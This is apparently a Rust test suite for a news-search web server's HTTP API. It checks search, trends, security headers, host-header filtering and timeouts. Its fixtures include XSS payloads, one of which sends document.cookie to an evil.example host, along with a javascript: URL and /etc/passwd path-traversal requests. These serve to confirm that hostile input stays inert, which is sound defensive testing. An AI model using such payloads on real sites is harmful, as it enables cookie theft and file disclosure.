//! The HTTP API, endpoint by endpoint, through the axum Router (no socket), plus
//! one real socket and the `civsearch serve` command end to end.

use axum::Router;
use axum::body::Body;
use axum::http::{Request, StatusCode};
use chrono::NaiveDate;
use civsearch::Article;
use civsearch::index::CivIndex;
use civsearch::search::trend::{Interval, TrendRequest, trend};
use serde_json::Value;
use std::io::{BufRead, BufReader, Read, Write};
use tower::ServiceExt;

fn day(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).unwrap()
}

const HOSTILE_TITLE: &str = "<script>alert('title')</script> Council & budget";
const HOSTILE_BODY: &str = "The sanctuary city vote <img src=x onerror=alert(1)> was close.\n\n\
    <script>document.location='https://evil.example/?c='+document.cookie</script> \
    A second paragraph with <b>bold</b> markup and &amp; entities.";
const HOSTILE_ID: &str = "https://evil.example/news/2018/vote?a=1&b=<x>#frag";
const PATH_ID: &str = "riverton/2017/08/council one.html";

fn articles() -> Vec<Article> {
    let art = |id: &str, title: &str, body: &str, date: Option<NaiveDate>, outlet: &str| {
        let mut a = Article::new(id, title, body).with_outlet(outlet);
        a.date = date;
        a
    };
    let mut path_article = art(
        PATH_ID,
        "Council backs ordinance",
        "Riverton became a sanctuary city on Tuesday after a long council meeting.",
        Some(day(2017, 8, 15)),
        "The Riverton Ledger",
    );
    path_article.path = Some(PATH_ID.to_string());
    path_article.author = Some("Ana Ruiz".to_string());
    path_article.links = vec![civsearch::article::Link {
        url: "https://docs.riverton.example/ordinance.pdf".into(),
        text: "the ordinance".into(),
    }];
    vec![
        path_article,
        art(
            "https://harbor.example/birds",
            "Birds find a home",
            "The city opened a sanctuary for herons near the river.",
            Some(day(2017, 9, 2)),
            "Harbor Courier",
        )
        .with_url("https://harbor.example/birds"),
        art(
            "https://harbor.example/vote",
            "Vote set",
            "The sanctuary city vote comes in March, the mayor said.",
            Some(day(2018, 1, 10)),
            "Harbor Courier",
        )
        .with_url("https://harbor.example/vote"),
        art(
            "https://ledger.example/raid",
            "Raid in Millbrook",
            "Agents carried out a raid. Millbrook is not a sanctuary city, officials said.",
            Some(day(2018, 2, 20)),
            "The Riverton Ledger",
        )
        .with_url("https://ledger.example/raid"),
        art(
            "undated-1",
            "Undated sanctuary city note",
            "An undated item about the sanctuary city debate.",
            None,
            "Millbrook Sentinel",
        ),
        art(
            HOSTILE_ID,
            HOSTILE_TITLE,
            HOSTILE_BODY,
            Some(day(2018, 3, 1)),
            "Evil <Gazette>",
        )
        .with_url("javascript:alert(document.domain)"),
    ]
}

/// A small index and a router over it; the tempdir keeps it alive.
fn fixture() -> (tempfile::TempDir, Router) {
    let dir = tempfile::tempdir().unwrap();
    let idx = CivIndex::open_or_create(dir.path()).unwrap();
    idx.add_articles(&articles()).unwrap();
    let served = CivIndex::open_watched(dir.path()).unwrap();
    (dir, civsearch::server::router(served))
}

struct Answer {
    status: StatusCode,
    headers: axum::http::HeaderMap,
    body: Vec<u8>,
}

impl Answer {
    fn json(&self) -> Value {
        serde_json::from_slice(&self.body)
            .unwrap_or_else(|e| panic!("not JSON ({e}): {}", String::from_utf8_lossy(&self.body)))
    }
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
    fn header(&self, name: &str) -> String {
        self.headers
            .get(name)
            .map(|v| v.to_str().unwrap().to_string())
            .unwrap_or_default()
    }
}

async fn get(app: &Router, uri: &str) -> Answer {
    let resp = app
        .clone()
        .oneshot(Request::get(uri).body(Body::empty()).unwrap())
        .await
        .unwrap();
    let status = resp.status();
    let headers = resp.headers().clone();
    let body = axum::body::to_bytes(resp.into_body(), 10 << 20)
        .await
        .unwrap()
        .to_vec();
    Answer {
        status,
        headers,
        body,
    }
}

fn enc(s: &str) -> String {
    url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

/// Percent-encode every byte outside `A-Za-z0-9-._~` (like encodeURIComponent).
fn enc_path(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

async fn bad(app: &Router, uri: &str, parameter: &str) -> Value {
    let a = get(app, uri).await;
    assert_eq!(a.status, StatusCode::BAD_REQUEST, "{uri}: {}", a.text());
    let v = a.json();
    assert_eq!(v["parameter"], parameter, "{uri}: {v}");
    assert!(v["error"].as_str().is_some_and(|e| !e.is_empty()), "{v}");
    assert!(!a.text().contains("panicked"), "{}", a.text());
    v
}

#[tokio::test]
async fn healthz_and_stats() {
    let (_dir, app) = fixture();
    let h = get(&app, "/healthz").await;
    assert_eq!(h.status, StatusCode::OK);
    assert_eq!(h.json()["status"], "ok");
    assert_eq!(h.json()["documents"], 6);

    let s = get(&app, "/api/stats").await;
    assert_eq!(s.status, StatusCode::OK);
    let v = s.json();
    assert_eq!(v["documents"], 6);
    assert_eq!(v["undated"], 1);
    assert_eq!(v["first_date"], "2017-08-15");
    assert_eq!(v["outlets"][0][0], "Harbor Courier");
    bad(&app, "/api/stats?x=1", "x").await;
}

#[tokio::test]
async fn search_phrase_with_hit_fields_and_highlights() {
    let (_dir, app) = fixture();
    let a = get(
        &app,
        &format!("/api/search?q={}", enc("\"sanctuary city\"")),
    )
    .await;
    assert_eq!(a.status, StatusCode::OK, "{}", a.text());
    assert!(a.header("content-type").starts_with("application/json"));
    assert_eq!(a.header("cache-control"), "no-store");
    let v = a.json();
    // The path article, vote, raid, undated note, hostile article.
    assert_eq!(v["total"], 5, "{v}");
    assert!(v["facets"].is_null());
    let hits = v["hits"].as_array().unwrap();
    assert_eq!(hits.len(), 5);
    for h in hits {
        for field in [
            "id",
            "url",
            "path",
            "title",
            "date",
            "outlet",
            "author",
            "score",
            "snippet",
            "highlights",
        ] {
            assert!(h.get(field).is_some(), "hit lacks {field}: {h}");
        }
        let snippet: Vec<char> = h["snippet"].as_str().unwrap().chars().collect();
        let ranges = h["highlights"].as_array().unwrap();
        assert!(!ranges.is_empty(), "{h}");
        for r in ranges {
            let (s, e) = (
                r[0].as_u64().unwrap() as usize,
                r[1].as_u64().unwrap() as usize,
            );
            let text: String = snippet[s..e].iter().collect();
            assert_eq!(text.to_lowercase(), "sanctuary city", "{h}");
        }
    }
    let path_hit = hits.iter().find(|h| h["id"] == PATH_ID).unwrap();
    assert_eq!(path_hit["date"], "2017-08-15");
    assert_eq!(path_hit["author"], "Ana Ruiz");
    assert_eq!(path_hit["path"], PATH_ID);
    assert!(path_hit["url"].is_null());
}

#[tokio::test]
async fn search_filters_sort_and_paging() {
    let (_dir, app) = fixture();
    let q = enc("\"sanctuary city\"");
    // The same date forms as the CLI: 2017-08 .. 2018-02 inclusive.
    let v = get(&app, &format!("/api/search?q={q}&from=2017-08&to=2018-02"))
        .await
        .json();
    assert_eq!(v["total"], 3, "{v}");
    assert_eq!(v["undated_excluded"], 1);
    let v = get(
        &app,
        &format!("/api/search?q={q}&from=2017-08&to=2018-02&undated=include"),
    )
    .await
    .json();
    assert_eq!(v["total"], 4, "{v}");
    let v = get(&app, &format!("/api/search?q={q}&undated=only"))
        .await
        .json();
    assert_eq!(v["total"], 1);
    // Outlets: repeatable, case and "The" ignored.
    let v = get(&app, &format!("/api/search?q={q}&outlet=riverton+ledger"))
        .await
        .json();
    assert_eq!(v["total"], 2, "{v}");
    let v = get(
        &app,
        &format!("/api/search?q={q}&outlet=riverton+ledger&outlet=Harbor%20Courier"),
    )
    .await
    .json();
    assert_eq!(v["total"], 3, "{v}");
    let v = get(&app, &format!("/api/search?q={q}&outlet=Nowhere+Times"))
        .await
        .json();
    assert_eq!(v["total"], 0);
    assert_eq!(v["unknown_outlets"][0], "Nowhere Times");
    // Sort and paging.
    let v = get(&app, &format!("/api/search?q={q}&sort=newest&limit=2"))
        .await
        .json();
    assert_eq!(v["total"], 5);
    let dates: Vec<&str> = v["hits"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["date"].as_str().unwrap())
        .collect();
    assert_eq!(dates, ["2018-03-01", "2018-02-20"]);
    let v = get(
        &app,
        &format!("/api/search?q={q}&sort=newest&limit=2&offset=2"),
    )
    .await
    .json();
    assert_eq!(v["hits"][0]["date"], "2018-01-10");
    assert_eq!(v["offset"], 2);
    let v = get(&app, &format!("/api/search?q={q}&limit=0"))
        .await
        .json();
    assert_eq!(v["total"], 5);
    assert_eq!(v["hits"].as_array().unwrap().len(), 0);
    // Every article.
    let v = get(&app, "/api/search?q=*").await.json();
    assert_eq!(v["total"], 6);
}

#[tokio::test]
async fn search_facets_count_the_matching_articles() {
    let (_dir, app) = fixture();
    let q = enc("\"sanctuary city\"");
    let v = get(&app, &format!("/api/search?q={q}&facets=1"))
        .await
        .json();
    let facets = v["facets"]["outlet"].as_array().unwrap();
    let pairs: Vec<(String, u64)> = facets
        .iter()
        .map(|f| {
            (
                f["value"].as_str().unwrap().to_string(),
                f["count"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        pairs,
        [
            ("The Riverton Ledger".to_string(), 2),
            ("Evil <Gazette>".to_string(), 1),
            ("Harbor Courier".to_string(), 1),
            ("Millbrook Sentinel".to_string(), 1),
        ]
    );
    // Facets count the matching articles: every filter applies (the page offers
    // the removal of a chosen outlet as a chip).
    let v = get(
        &app,
        &format!("/api/search?q={q}&facets=true&outlet=Harbor+Courier&from=2018"),
    )
    .await
    .json();
    assert_eq!(v["total"], 1);
    let facets = v["facets"]["outlet"].as_array().unwrap();
    assert_eq!(facets.len(), 1, "{v}");
    assert_eq!(facets[0]["value"], "Harbor Courier");
    assert_eq!(facets[0]["count"], 1);
    assert!(
        v["facets"]["year"]
            .as_array()
            .unwrap()
            .iter()
            .all(|y| y["value"].as_str().unwrap() >= "2018")
    );
}

#[tokio::test]
async fn search_bad_parameters_name_the_parameter() {
    let (_dir, app) = fixture();
    bad(&app, "/api/search", "q").await;
    bad(&app, "/api/search?q=", "q").await;
    bad(&app, "/api/search?q=city&from=someday", "from").await;
    bad(&app, "/api/search?q=city&to=2018-13", "to").await;
    let v = bad(&app, "/api/search?q=city&from=2019&to=2018", "from").await;
    assert!(v["error"].as_str().unwrap().contains("after"));
    bad(&app, "/api/search?q=city&limit=101", "limit").await;
    bad(&app, "/api/search?q=city&limit=-1", "limit").await;
    bad(&app, "/api/search?q=city&limit=ten", "limit").await;
    bad(&app, "/api/search?q=city&offset=10001", "offset").await;
    bad(&app, "/api/search?q=city&sort=sideways", "sort").await;
    bad(&app, "/api/search?q=city&undated=maybe", "undated").await;
    bad(&app, "/api/search?q=city&undated=only&from=2018", "undated").await;
    bad(&app, "/api/search?q=city&facets=please", "facets").await;
    bad(&app, "/api/search?q=city&form=2018", "form").await;
    bad(&app, "/api/search?q=city&limit=1&limit=2", "limit").await;
    let long = "a".repeat(civsearch::search::query::MAX_QUERY_CHARS + 1);
    bad(&app, &format!("/api/search?q={long}"), "q").await;
    // Syntax errors give the position.
    let v = bad(
        &app,
        &format!("/api/search?q={}", enc("council \"sanctuary")),
        "q",
    )
    .await;
    assert_eq!(v["position"], 9, "{v}");
    assert!(v["error"].as_str().unwrap().contains("position 9"));
    let v = bad(&app, &format!("/api/search?q={}", enc("(a b")), "q").await;
    assert_eq!(v["position"], 1);
}

#[tokio::test]
async fn trend_gives_the_cli_numbers() {
    let dir = tempfile::tempdir().unwrap();
    let idx = CivIndex::open_or_create(dir.path()).unwrap();
    idx.add_articles(&articles()).unwrap();
    let app = civsearch::server::router(CivIndex::open_watched(dir.path()).unwrap());

    let q1 = "\"sanctuary city\"";
    let a = get(
        &app,
        &format!(
            "/api/trend?q={}&q=raid&by=month&from=2017-08&to=2018-03&normalize=1",
            enc(q1)
        ),
    )
    .await;
    assert_eq!(a.status, StatusCode::OK, "{}", a.text());
    let v = a.json();
    assert_eq!(v["normalize"], true);
    let mut req = TrendRequest::new(vec![q1.to_string(), "raid".to_string()], Interval::Month);
    req.from = Some(day(2017, 8, 1));
    req.to = Some(day(2018, 3, 31));
    let lib = serde_json::to_value(trend(&idx, &req).unwrap()).unwrap();
    assert_eq!(v["series"], lib["series"]);
    assert_eq!(v["series"].as_array().unwrap().len(), 2);
    let points = v["series"][0]["points"].as_array().unwrap();
    assert_eq!(points.len(), 8);
    assert_eq!(points[0]["period"], "2017-08");
    assert_eq!(points[0]["count"], 1);
    assert_eq!(v["series"][0]["undated"], 1);

    let v = get(&app, "/api/trend?q=*&by=year").await.json();
    let periods: Vec<&str> = v["series"][0]["points"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["period"].as_str().unwrap())
        .collect();
    assert_eq!(periods, ["2017", "2018"]);

    bad(&app, "/api/trend", "q").await;
    bad(&app, "/api/trend?q=city&by=decade", "by").await;
    bad(&app, "/api/trend?q=city&from=soon", "from").await;
    bad(&app, &format!("/api/trend?q={}", enc("\"open")), "q").await;
    let many: String = (0..9).map(|i| format!("q=w{i}&")).collect();
    bad(&app, &format!("/api/trend?{many}by=year"), "q").await;
    bad(&app, "/api/trend?q=city&by=day&from=1900&to=2100", "by").await;
}

#[tokio::test]
async fn articles_by_encoded_id_and_hostile_text_stays_data() {
    let (_dir, app) = fixture();
    // A path id with slashes and a space, fully encoded (as the page's
    // encodeURIComponent does) and with its slashes left as they are.
    for uri in [
        format!("/api/articles/{}", enc_path(PATH_ID)),
        "/api/articles/riverton/2017/08/council%20one.html".to_string(),
    ] {
        let a = get(&app, &uri).await;
        assert_eq!(a.status, StatusCode::OK, "{uri}: {}", a.text());
        let v = a.json();
        assert_eq!(v["id"], PATH_ID);
        assert_eq!(v["title"], "Council backs ordinance");
        assert_eq!(v["date"], "2017-08-15");
        assert_eq!(v["outlet"], "The Riverton Ledger");
        assert!(v["body"].as_str().unwrap().contains("sanctuary city"));
        assert_eq!(
            v["links"],
            serde_json::json!([{"url": "https://docs.riverton.example/ordinance.pdf", "text": "the ordinance"}])
        );
    }
    // Links are searchable by domain, and hits carry them on request.
    let v = get(&app, "/api/search?q=link:riverton.example&links=1")
        .await
        .json();
    assert_eq!(v["total"], 1);
    assert_eq!(v["hits"][0]["links"][0]["text"], "the ordinance");
    let v = get(&app, "/api/search?q=link:riverton.example")
        .await
        .json();
    assert!(v["hits"][0].get("links").is_none());
    // A URL id with ?, &, <, > and #.
    let a = get(&app, &format!("/api/articles/{}", enc_path(HOSTILE_ID))).await;
    assert_eq!(a.status, StatusCode::OK, "{}", a.text());
    assert!(a.header("content-type").starts_with("application/json"));
    assert_eq!(a.header("x-content-type-options"), "nosniff");
    let v = a.json();
    assert_eq!(v["id"], HOSTILE_ID);
    // Stored and returned verbatim: escaping is the page's job (textContent).
    assert_eq!(v["title"], HOSTILE_TITLE);
    assert!(
        v["body"]
            .as_str()
            .unwrap()
            .contains("<img src=x onerror=alert(1)>")
    );
    assert_eq!(v["url"], "javascript:alert(document.domain)");

    let missing = get(&app, "/api/articles/no-such-article").await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
    assert!(
        missing.json()["error"]
            .as_str()
            .unwrap()
            .contains("no article")
    );
    // Ids never reach the file system.
    for uri in [
        "/api/articles/..%2F..%2F..%2Fetc%2Fpasswd",
        "/api/articles/../../etc/passwd",
        "/api/articles/%2Fetc%2Fpasswd",
    ] {
        let a = get(&app, uri).await;
        assert!(
            a.status == StatusCode::NOT_FOUND || a.status == StatusCode::BAD_REQUEST,
            "{uri}: {}",
            a.status
        );
        assert!(!a.text().contains("root:"));
    }
}

#[tokio::test]
async fn hostile_snippets_are_plain_text_with_offsets() {
    let (_dir, app) = fixture();
    let v = get(&app, "/api/search?q=onerror").await.json();
    assert_eq!(v["total"], 1);
    let h = &v["hits"][0];
    assert_eq!(h["title"], HOSTILE_TITLE);
    assert_eq!(h["outlet"], "Evil <Gazette>");
    let snippet: Vec<char> = h["snippet"].as_str().unwrap().chars().collect();
    assert!(h["snippet"].as_str().unwrap().contains("<img src=x"));
    let r = &h["highlights"][0];
    let s: String = snippet[r[0].as_u64().unwrap() as usize..r[1].as_u64().unwrap() as usize]
        .iter()
        .collect();
    assert_eq!(s, "onerror");
}

#[tokio::test]
async fn page_files_and_security_headers() {
    let (_dir, app) = fixture();
    let page = get(&app, "/").await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.header("content-type").starts_with("text/html"));
    let csp = page.header("content-security-policy");
    assert!(csp.contains("default-src 'self'"), "{csp}");
    assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
    assert!(!csp.contains("unsafe-inline"), "{csp}");
    assert_eq!(page.header("x-content-type-options"), "nosniff");
    assert_eq!(page.header("referrer-policy"), "no-referrer");
    assert_eq!(page.header("x-frame-options"), "DENY");
    let html = page.text();
    assert!(html.contains("<script src=\"/app.js\" defer></script>"));
    // No inline script or style: everything the CSP allows comes from files.
    assert_eq!(html.matches("<script").count(), 1);
    assert!(!html.contains("style="));
    assert!(!html.contains("onclick"));

    let js = get(&app, "/app.js").await;
    assert!(js.header("content-type").starts_with("text/javascript"));
    // Data reaches the DOM only through textContent and text nodes.
    for banned in [
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "document.write",
        "eval(",
    ] {
        assert!(!js.text().contains(banned), "app.js uses {banned}");
    }
    let css = get(&app, "/style.css").await;
    assert!(css.header("content-type").starts_with("text/css"));
    let spec = get(&app, "/api/openapi.json").await;
    assert_eq!(spec.json()["openapi"], "3.1.0");
    assert!(spec.json()["paths"]["/api/search"].is_object());
}

#[tokio::test]
async fn unknown_routes_methods_and_oversized_requests() {
    let (_dir, app) = fixture();
    let a = get(&app, "/api/nothing").await;
    assert_eq!(a.status, StatusCode::NOT_FOUND);
    assert_eq!(a.json()["error"], "not found");
    assert_eq!(
        a.header("content-security-policy"),
        civsearch::server::CONTENT_SECURITY_POLICY
    );
    let post = app
        .clone()
        .oneshot(
            Request::post("/api/search?q=city")
                .body(Body::from("x"))
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(post.status(), StatusCode::METHOD_NOT_ALLOWED);
    let body = axum::body::to_bytes(post.into_body(), 1 << 20)
        .await
        .unwrap();
    let v: Value = serde_json::from_slice(&body).expect("405 answers JSON");
    assert!(
        v["error"].as_str().is_some_and(|e| e.contains("GET")),
        "{v}"
    );
    // A field that does not exist is a query error at its position, not 0 hits.
    let v = bad(&app, "/api/search?q=budget%20titel%3Abudget", "q").await;
    assert_eq!(v["position"], 8);
    assert!(
        v["error"]
            .as_str()
            .unwrap()
            .contains("unknown field \"titel\""),
        "{v}"
    );
    // An id that is not UTF-8 once decoded: a JSON 400, not axum's text rejection.
    let a = get(&app, "/api/articles/%ff%fe").await;
    assert_eq!(a.status, StatusCode::BAD_REQUEST);
    assert_eq!(a.header("content-type"), "application/json");
    assert_eq!(a.json()["parameter"], "id");
    let long = "a".repeat(civsearch::server::MAX_URI_BYTES + 10);
    let a = get(&app, &format!("/api/search?q={long}")).await;
    assert_eq!(a.status, StatusCode::URI_TOO_LONG);
    assert!(a.json()["error"].as_str().is_some());
}

#[tokio::test]
async fn searches_see_new_commits_without_a_restart() {
    let dir = tempfile::tempdir().unwrap();
    let writer = CivIndex::open_or_create(dir.path()).unwrap();
    writer.add_articles(&articles()).unwrap();
    let app = civsearch::server::router(CivIndex::open_watched(dir.path()).unwrap());
    let q = "/api/search?q=heliport&limit=0";
    assert_eq!(get(&app, q).await.json()["total"], 0);
    writer
        .add_articles(&[Article::new(
            "new-1",
            "Heliport plan",
            "A heliport is planned.",
        )])
        .unwrap();
    let start = std::time::Instant::now();
    loop {
        if get(&app, q).await.json()["total"] == 1 {
            break;
        }
        assert!(
            start.elapsed() < std::time::Duration::from_secs(15),
            "the new commit was not seen"
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
}

/// One request over a real socket; returns the status line, headers and body.
fn http_get(addr: &str, path: &str) -> (String, String) {
    let mut s = std::net::TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(std::time::Duration::from_secs(10)))
        .unwrap();
    write!(
        s,
        "GET {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let mut out = String::new();
    s.read_to_string(&mut out).unwrap();
    let (head, body) = out.split_once("\r\n\r\n").unwrap_or((&out, ""));
    (head.to_string(), body.to_string())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn serves_on_a_real_socket() {
    let (_dir, app) = fixture();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    assert!(civsearch::server::is_loopback(&addr));
    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
    let server = tokio::spawn(civsearch::server::serve(listener, app, async {
        let _ = stop_rx.await;
    }));
    let a = addr.to_string();
    let (head, body) = tokio::task::spawn_blocking(move || {
        http_get(&a, &format!("/api/search?q={}", enc("\"sanctuary city\"")))
    })
    .await
    .unwrap();
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    assert!(body.contains("\"total\":5"), "{body}");
    stop_tx.send(()).unwrap();
    server.await.unwrap().unwrap();
}

#[test]
fn serve_command_binds_loopback_and_answers() {
    let dir = tempfile::tempdir().unwrap();
    CivIndex::open_or_create(dir.path())
        .unwrap()
        .add_articles(&articles())
        .unwrap();
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_civsearch"))
        .args(["serve", "--addr", "127.0.0.1:0", "--index"])
        .arg(dir.path())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stderr = BufReader::new(child.stderr.take().unwrap());
    let mut line = String::new();
    stderr.read_line(&mut line).unwrap();
    let addr = line
        .split("http://")
        .nth(1)
        .and_then(|rest| rest.split('/').next())
        .unwrap_or_else(|| panic!("no address in {line:?}"))
        .to_string();
    assert!(addr.starts_with("127.0.0.1:"), "{line}");
    assert!(!line.contains("warning"), "{line}");
    let (head, body) = http_get(&addr, "/healthz");
    let _ = child.kill();
    let _ = child.wait();
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    assert!(body.contains("\"documents\":6"), "{body}");
}

#[test]
fn only_loopback_addresses_count_as_local() {
    use civsearch::server::is_loopback;
    for local in ["127.0.0.1:7700", "127.1.2.3:1", "[::1]:7700"] {
        assert!(is_loopback(&local.parse().unwrap()), "{local}");
    }
    // These get the warning from `civsearch serve` (checked without binding them).
    for wide in [
        "0.0.0.0:7700",
        "[::]:7700",
        "192.168.1.10:80",
        "10.0.0.1:7700",
    ] {
        assert!(!is_loopback(&wide.parse().unwrap()), "{wide}");
    }
}

async fn get_with_host(app: &Router, uri: &str, host: &str) -> (StatusCode, String) {
    let resp = app
        .clone()
        .oneshot(
            Request::get(uri)
                .header("host", host)
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    let status = resp.status();
    let body = axum::body::to_bytes(resp.into_body(), 1 << 20)
        .await
        .unwrap();
    (status, String::from_utf8_lossy(&body).into_owned())
}

#[tokio::test]
async fn a_foreign_host_header_is_refused_with_421_and_a_json_error() {
    let (_dir, app) = fixture();
    // DNS rebinding: a page on evil.example resolves its own name to 127.0.0.1.
    for host in [
        "evil.example",
        "evil.example:7700",
        "127.0.0.1.evil.example",
    ] {
        let (status, body) = get_with_host(&app, "/api/stats", host).await;
        assert_eq!(status, StatusCode::MISDIRECTED_REQUEST, "{host}");
        let v: Value = serde_json::from_str(&body).unwrap();
        assert!(v["error"].as_str().unwrap().contains("Host"), "{body}");
    }
    for host in [
        "localhost",
        "LOCALHOST:7700",
        "127.0.0.1:7700",
        "[::1]:7700",
    ] {
        let (status, _) = get_with_host(&app, "/api/stats", host).await;
        assert_eq!(status, StatusCode::OK, "{host}");
    }
    // A name given with --allow-host, and the bound address.
    let dir = tempfile::tempdir().unwrap();
    CivIndex::open_or_create(dir.path())
        .unwrap()
        .add_articles(&articles())
        .unwrap();
    let config = civsearch::server::ServerConfig {
        hosts: civsearch::server::HostPolicy {
            bound: Some("10.1.2.3".parse().unwrap()),
            names: vec!["search.newsroom.test".into()],
        },
        ..Default::default()
    };
    let app = civsearch::server::router_with(CivIndex::open(dir.path()).unwrap(), config);
    for (host, want) in [
        ("search.newsroom.test", StatusCode::OK),
        ("10.1.2.3:7700", StatusCode::OK),
        ("10.1.2.4:7700", StatusCode::MISDIRECTED_REQUEST),
        ("other.newsroom.test", StatusCode::MISDIRECTED_REQUEST),
    ] {
        assert_eq!(
            get_with_host(&app, "/healthz", host).await.0,
            want,
            "{host}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stalled_headers_close_the_connection_and_a_missing_body_is_not_awaited() {
    let (_dir, app) = fixture();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
    let server = tokio::spawn(civsearch::server::serve_with_timeout(
        listener,
        app,
        async {
            let _ = stop_rx.await;
        },
        std::time::Duration::from_millis(300),
    ));
    let outcome = tokio::task::spawn_blocking(move || {
        let mut s = std::net::TcpStream::connect(addr).unwrap();
        // Far longer than the server's header timeout: a read that ends by
        // this timeout means the server kept the connection.
        s.set_read_timeout(Some(std::time::Duration::from_secs(20)))
            .unwrap();
        write!(s, "GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: ").unwrap();
        let mut buf = [0u8; 512];
        s.read(&mut buf)
            .map(|n| buf[..n].to_vec())
            .map_err(|e| e.kind())
    })
    .await
    .unwrap();
    // Closed by the server (end of stream, or a 408 before closing), not timed out here.
    match outcome {
        Ok(got) => assert!(
            got.is_empty() || got.starts_with(b"HTTP/1.1 408"),
            "answered a request whose headers never ended: {}",
            String::from_utf8_lossy(&got)
        ),
        Err(kind) => assert!(
            !matches!(
                kind,
                std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
            ),
            "the server kept a stalled connection open: {kind:?}"
        ),
    }
    // A request whose body never comes: answered (the API reads no body)
    // and the connection closed, not held open waiting for the body.
    let stalled_body = tokio::task::spawn_blocking(move || {
        let mut s = std::net::TcpStream::connect(addr).unwrap();
        s.set_read_timeout(Some(std::time::Duration::from_secs(20)))
            .unwrap();
        write!(
            s,
            "GET /healthz HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100\r\n\r\n"
        )
        .unwrap();
        let mut out = Vec::new();
        s.read_to_end(&mut out).map(|_| out).map_err(|e| e.kind())
    })
    .await
    .unwrap();
    let out = stalled_body.expect("the connection was kept open waiting for a body");
    assert!(
        out.starts_with(b"HTTP/1.1 200"),
        "{}",
        String::from_utf8_lossy(&out)
    );
    stop_tx.send(()).unwrap();
    server.await.unwrap().unwrap();
}
